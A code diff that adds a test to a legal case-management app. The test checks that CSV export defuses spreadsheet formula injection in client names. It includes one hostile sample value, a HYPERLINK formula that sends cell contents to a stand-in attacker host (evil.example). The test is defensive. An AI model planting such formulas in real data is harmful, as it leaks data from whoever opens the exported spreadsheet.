@@ -1,3 +1,5 @@
+import csv
+import io
 from dataclasses import replace
 from datetime import timedelta
 from typing import NamedTuple
@@ -317,6 +319,20 @@ def test_csv_export_has_every_matching_row_and_is_on_record(session, firm):
     assert lines[0].startswith("Reference,Client,Case type")
     assert len(lines) == 2 and "López García" in lines[1]
     assert session.exec(select(CaseEvent).where(CaseEvent.kind == "cases_exported")).one()
+
+
+def test_csv_export_keeps_a_formula_typed_as_a_name_from_running(session):
+    attorney = make_viewer(session, role="attorney")
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    open_case(
+        session,
+        actor=attorney,
+        case_type="tps",
+        members=[MemberInput("applicant", new_person=PersonInput("Diaz", formula))],
+    )
+    text = "".join(export_cases_csv(session, viewer=attorney, query=CaseQuery()))
+    [header, row] = list(csv.reader(io.StringIO(text)))
+    assert row[header.index("Client")] == "'" + formula + " Diaz"
 
 
 def test_my_work_counts_only_my_cases_and_links_to_the_view(session, firm):
